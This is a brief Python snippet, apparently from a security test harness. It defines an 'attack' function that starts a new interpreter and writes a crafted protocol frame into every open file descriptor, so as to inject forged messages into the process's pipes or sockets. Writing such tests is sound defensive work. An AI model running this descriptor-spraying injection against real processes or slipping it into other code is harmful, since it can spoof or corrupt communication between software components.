# include: frames.py
# include: interpreters.py

def attack(inputs):
    run_in(own.create(), f"""
import os
for fd in range(1023, 2, -1):
    try:
        os.set_blocking(fd, False)
        os.write(fd, {frame(2)!r})
    except OSError:
        pass
""")
